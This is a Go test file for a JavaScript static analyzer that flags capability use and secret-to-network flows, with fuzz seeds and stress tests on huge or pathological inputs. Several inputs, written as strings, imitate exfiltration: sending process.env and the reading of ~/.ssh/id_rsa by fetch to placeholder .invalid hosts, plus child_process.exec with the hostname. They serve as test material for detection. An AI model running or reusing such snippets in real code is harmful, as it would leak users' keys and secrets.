package js

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"levee/internal/code"
	"levee/internal/code/capability"
)

func FuzzRead(f *testing.F) {
	for _, s := range stories(f) {
		bare, _ := s.parts()
		for name, text := range bare {
			f.Add(name, text)
		}
	}
	for _, seed := range []string{
		"a=a+a;a=[a];a={a};a()", "class A extends A{constructor(){super()}}new A", "with(a){with(b){c}}", "eval('eval(\"eval(x)\")')",
		"for(a of a)a.push(a)", "x={get x(){return x.x}};x.x.x", "new Proxy(Proxy,{get:Proxy})", "f=>f(f)", "var{a=a}=a", "a`${a}`",
		"import('a'+b)", "export*from'./a.js'", "exports=module.exports=exports", "a.b=a;a.c=a.b.b", "fetch.call.call(fetch)", "Object.assign(a,a)",
	} {
		f.Add("a.js", seed)
	}
	f.Fuzz(func(t *testing.T, name, text string) {
		if len(text) > 64<<10 {
			return
		}
		start := time.Now()
		file := readText(NewReader(capability.Default()), name, text)
		checkFacts(t, file, strings.Count(text, "\n")+strings.Count(text, "\r")+1)
		if took := time.Since(start); took > runaway {
			t.Errorf("took %v", took)
		}
	})
}

// checkFacts wants places within the file, functions that exist, and no more
// than may be told.
func checkFacts(t *testing.T, f *File, lines int) {
	t.Helper()
	at := func(what string, p code.Place, fn int) {
		if p.Line < 0 || p.Line > lines || p.Column < 0 {
			t.Errorf("%s at %v of %d lines", what, p, lines)
		}
		if fn < -1 || fn >= len(f.Functions) {
			t.Errorf("%s in function %d of %d", what, fn, len(f.Functions))
		}
	}
	for _, u := range f.Uses {
		at(u.API, u.Place, u.Function)
	}
	for _, w := range f.Flows {
		at("sink "+w.To.API, w.To.Place, w.Function)
		at("origin "+w.From.Kind, w.From.Place, -1)
	}
	for _, o := range f.Overrides {
		at(o.Target, o.Place, o.Function)
	}
	for _, i := range f.Imports {
		at(i.Spec, i.Place, i.Function)
	}
	for _, fn := range f.Functions {
		for _, g := range fn.Calls {
			at("a call", code.Place{}, g)
		}
	}
	const kinds = 100 // of each of which one is kept in any case
	if len(f.Uses) > 2*maxUses+kinds || len(f.Flows) > 2*maxFlows+kinds*kinds {
		t.Errorf("%d uses, %d flows", len(f.Uses), len(f.Flows))
	}
}

// runaway is what no file takes on any machine, under the race detector either:
// what grows by the square takes minutes.
const runaway = 30 * time.Second

// within reads a text in bounded time, and wants its last statement among the
// uses, and the innermost one, which fetches.
func within(t *testing.T, text string) *File {
	t.Helper()
	start := time.Now()
	f := readText(NewReader(capability.Default()), "a.js", text)
	if took := time.Since(start); took > runaway {
		t.Errorf("%d bytes took %v", len(text), took)
	} else {
		t.Logf("%d bytes: %v, %s %s", len(text), took.Round(time.Millisecond), f.How, f.Partial)
	}
	checkFacts(t, f, strings.Count(text, "\n")+1)
	if f.Partial == "" && f.How == code.ByTree && !told(f)["use process-control process.abort"] {
		t.Errorf("the last statement was not read, and nobody says so")
	}
	if f.Partial == "" && strings.Contains(text, "fetch(") && !reaches(f, "fetch") {
		t.Errorf("there is a fetch, and nobody says so")
	}
	return f
}

func reaches(f *File, api string) bool {
	return slices.ContainsFunc(f.Uses, func(u Use) bool { return u.API == api })
}

// repeated returns a line for each number.
func repeated(n int, line string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.ReplaceAll(line, "$", fmt.Sprint(i)))
		b.WriteByte('\n')
	}
	return b.String()
}

// nested returns an opening, many times, and as many closings.
func nested(n int, open, middle, close string) string {
	return strings.Repeat(open, n) + middle + strings.Repeat(close, n)
}

// evals returns code in a text in a text.
func evals(n int) string {
	text := "fetch('https://a.invalid/')"
	for range n {
		text = "eval(" + fmt.Sprintf("%q", text) + ")"
		if len(text) > 1<<20 {
			break
		}
	}
	return text
}

func TestHugeFiles(t *testing.T) {
	const last = "\nprocess.abort();\n"
	for name, text := range map[string]string{
		"many functions":         repeated(20_000, "function f$(a) { return f$(a + process.env.X$); }"),
		"functions calling all":  "var c = [];" + repeated(2_000, "c.push(function (a) { c.forEach(g => g(a)); fetch(a); });") + "c[0](process.env);",
		"chain of calls":         repeated(5_000, "function f$(a) { return f$1(a); }") + "f0(process.env.X);",
		"one variable":           "var a;" + repeated(100_000, "a = $;") + repeated(20_000, "a = 't$';"),
		"one variable of things": "var a;" + repeated(30_000, "a = { x: process.env.X$ };"),
		"one variable of calls":  "var a = () => 1;" + repeated(20_000, "a = x => a(x); a(process.env);"),
		"texts that double":      "var a = 'x';" + repeated(60, "a = a + a;") + "fetch(a); a += a; a += a;",
		"templates that double":  "var a0 = 'xxxxxxxxxxxxxxxx';" + repeated(40, "var a$1 = `${a$}${a$}`;") + "fetch(a401);",
		"repeat":                 "var a = 'x'.repeat(1e9); var b = Array(1e9).join('x'); fetch(a + b); eval('a'.padEnd(1e9));",
		"long list":              "var a = [" + strings.Repeat("1, process.env, ", 50_000) + "]; for (const x of a) fetch(x); a.map(x => x).concat(a).join();",
		"many properties":        "var o = {" + repeated(50_000, "p$: process.env.P$,") + "}; fetch(JSON.stringify(o)); Object.assign({}, o, o); ({ ...o });",
		"circles":                "var a = {}, b = [a]; a.a = a; a.b = b; b.push(b, a); a.f = () => a.f(a, b); fetch(JSON.stringify(a)); a.f(); for (const x of b) fetch(x);",
		"big circle":             repeated(3_000, "var o$ = { n: o$1, e: process.env.X$ };") + "o0.n = o10; fetch(o0); module.exports = o0;",
		"all hold all":           "var all = [];" + repeated(3_000, "var o$ = { all }; all.push(o$, process.env.E$);") + "fetch(JSON.stringify(all)); module.exports = all;",
		"closures":               nested(50, "(function (a) { return () => ", "fetch(a)", "})(process.env);"),
		"deep functions":         nested(200, "function f(a) {", "fetch(a);", "}"),
		"deep objects":           "var a = " + nested(300, "{ a: [", "process.env", "] }") + "; fetch(a);",
		"deep conditions":        nested(300, "if (process.env.A) {", "eval(b);", "}"),
		"many conditions":        repeated(3_000, "if (process.env.A$) eval(b$);"),
		"evals":                  evals(6),
		"many evals":             repeated(3_000, "eval('fetch(\"https://a$.invalid\")');"),
		"functions from text":    "var a = 'return 1';" + repeated(300, "a = 'return new Function(' + JSON.stringify(a) + ')';") + "new Function(a)();",
		"with":                   nested(60, "with (a) {", "b.c()", "}") + repeated(2_000, "with (process) { env.A$ }"),
		"getters":                "var o = {" + repeated(2_000, "get g$() { return this.g$1 + this.g$2; },") + "}; fetch(o.g0);",
		"classes":                repeated(3_000, "class C$1 extends C$ { constructor(a) { super(a); this.x = a; } m() { super.m(); fetch(this.x); } }") + "new C30001(process.env).m();",
		"own parent":             "class A extends A { constructor() { super(process.env); } m() { super.m(); } } class B extends C {} class C extends B {} new A().m(); new B().m();",
		"bound":                  "var f = x => fetch(x);" + repeated(3_000, "f = f.bind(null, process.env.A$);") + "f();",
		"applied to itself":      "var f = (...a) => f.apply(f, a), g = f.call.bind(f.apply); f(f, g, process.env); g(g, g, g); Reflect.apply(f, f, [f]);",
		"promises":               "var p = Promise.resolve(process.env);" + repeated(3_000, "p = p.then(x => p.then(y => [x, y]));") + "p.then(fetch);",
		"emitters":               "var e = new E();" + repeated(2_000, "e.on('a$', x => e.emit('a$1', x, e));") + "e.emit('a0', process.env);",
		"loop of decoders":       "var t = [" + strings.Repeat("'YWJj', ", 5_000) + "]; const d = i => atob(t[i]);" + repeated(5_000, "fetch('https://' + d($));"),
		"endless decoders":       "const d = s => { for (;;) s += s; return s; };" + repeated(2_000, "fetch(d('a$'));"),
		"decoders of each other": "const a = s => b(s) + b(s), b = s => a(s) + a(s);" + repeated(500, "fetch(a('x$'));"),
		"overrides":              repeated(3_000, "Array.prototype.m$ = function () { return fetch(arguments[0]); }; globalThis.fetch = function (a) { return a.b; };"),
		"imports":                repeated(5_000, "require('p$'); import('q' + '$'); require(x$);"),
		"bundler of bundlers":    "var m = [" + strings.Repeat("(e, t, r) => { e.exports = r(1); r(2); t.x = process.env; },", 2_000) + "], c = {}; function r(i) { var n = c[i] = { exports: {} }; m[i](n, n.exports, r); return n.exports; } r(0);",
		"alternatives of many":   "var a, b, c;" + repeated(2_000, "a = x ? 'a$' : b; b = y ? a + 'b$' : c; c = [a, b][z] || a + b;") + "fetch(a + b + c);",
		"destructured":           "var o = process;" + repeated(3_000, "var { env: { A$: [a$ = { b: o }] = [o] } = {} } = o;") + "fetch(a1);",
		"tagged":                 "var t = (s, ...v) => t`${s}${v}`;" + nested(50, "t`${", "process.env", "}`;"),
		"commas":                 "fetch((" + strings.Repeat("1,", 100_000) + "process.env));",
		"sums":                   "fetch(process.env.A" + strings.Repeat("+ 'a'", 2_500) + ");",
		"spread":                 "var a = [process.env];" + repeated(2_000, "a = [...a, ...a]; var o$ = { ...a, ...o$1 };") + "fetch(...a);",
		"generators":             repeated(2_000, "function* g$() { yield* g$1(); yield process.env; }") + "for (const x of g0()) fetch(x);",
	} {
		t.Run(name, func(t *testing.T) { within(t, text+last) })
	}
}

// TestNothingHidesBehindMuch puts one thing that matters behind very much that
// does not.
func TestNothingHidesBehindMuch(t *testing.T) {
	f := within(t, repeated(5_000, "fetch('https://a$.invalid/' + process.env.A$); require('./m$');")+
		"require('payload'); require('child_process').exec('zz ' + require('os').hostname());\n"+
		"fetch('https://z.invalid/', { body: ["+strings.Repeat("Date.now(),", 100)+"require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')] });\nprocess.abort();\n")
	facts := told(f)
	for _, want := range []string{`use exec child_process.exec "zz …"`, `flow host -> exec child_process.exec command "zz …"`,
		`flow secret -> net fetch body "z.invalid"`} {
		if !facts[want] {
			t.Errorf("%s is not kept", want)
		}
	}
	if !slices.ContainsFunc(f.Imports, func(i Import) bool { return i.Spec == "payload" }) || f.Partial == "" {
		t.Errorf("the import is not kept, or nobody says that others are not: %q", f.Partial)
	}
}

func TestSecretHidesBehindNoOtherLabels(t *testing.T) {
	f := within(t, "fetch('https://z.invalid/', { body: ["+strings.Repeat("Date.now(),", 100)+"process.env.A] });\nprocess.abort();\n")
	if !told(f)[`flow env "A" -> net fetch body "z.invalid"`] {
		t.Errorf("not kept: %v", told(f))
	}
}
